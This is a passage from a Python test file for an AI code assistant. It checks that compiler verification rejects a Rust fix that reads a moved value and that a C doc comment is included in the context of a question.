fn push_all(out: &mut Vec<String>, parts: Vec<String>) -> usize {
    for part in parts {
        out.push(part);
    }
    out.len()
}
"""


def _rust_fix(body: str) -> str:
    return f"Problem: It returns the length of `out`, not the count appended.\n```rust\n{body}```"


@pytest.mark.skipif(shutil.which("rustc") is None, reason="no rustc on PATH")
async def test_a_candidate_the_compiler_refuses_makes_way_for_the_next() -> None:
    """With rustc installed, a candidate that reads `parts` after the loop moved it is
    compiled, refused, and the next one is offered; with buildCheck off the first is offered
    as before (the parse tree cannot tell that a value moved)."""
    moved = PUSH_ALL.replace("    out.len()", "    parts.len()")
    counted = PUSH_ALL.replace(
        "    for part in parts {", "    let n = parts.len();\n    for part in parts {"
    ).replace("    out.len()", "    n")
    engine = RecordedEngine([_rust_fix(moved), _rust_fix(counted)])
    a, outcomes = assistant(engine)
    doc = doc_of(PUSH_ALL, "push.rs")
    cursor = PUSH_ALL.index("out.len()")
    fix = await a.edit(doc, "fix", cursor, cursor)
    assert fix.edit is not None and "let n = parts.len();" in fix.edit.new_text
    assert outcomes == [("fix", "verified on candidate 2")]

    engine = RecordedEngine([_rust_fix(moved), _rust_fix(counted)])
    a, outcomes = assistant(engine, build_check=False)
    fix = await a.edit(doc, "fix", cursor, cursor)
    assert fix.edit is not None and "    parts.len()" in fix.edit.new_text
    assert outcomes == [("fix", "verified on candidate 1")]


async def test_a_question_is_asked_with_the_doc_comment_above_the_definition() -> None:
    """A C definition's doc comment sits above its node: the question's context shows it, the
    contract a question is about (as the explanation's does)."""
    code = (
        "/* Parse a decimal integer; returns 0 on a stray character. */\n"
        "int parse(const char *s) {\n    return *s == ' ' ? 0 : 1;\n}\n"
    )
    doc = doc_of(code, "parse.c")
    at = code.index("return *s")
    engine = RecordedEngine(["It returns 0: a space is a stray character."])
    a, _ = assistant(engine)
    answer = await a.ask(doc, at, at, 'Does it accept " 4"?', path="parse.c")
    assert answer.markdown.startswith("It returns 0")
    prompt = engine.prompts[0]
    assert "/* Parse a decimal integer; returns 0 on a stray character. */" in prompt
    assert prompt.rstrip().endswith('Question: Does it accept " 4"?')
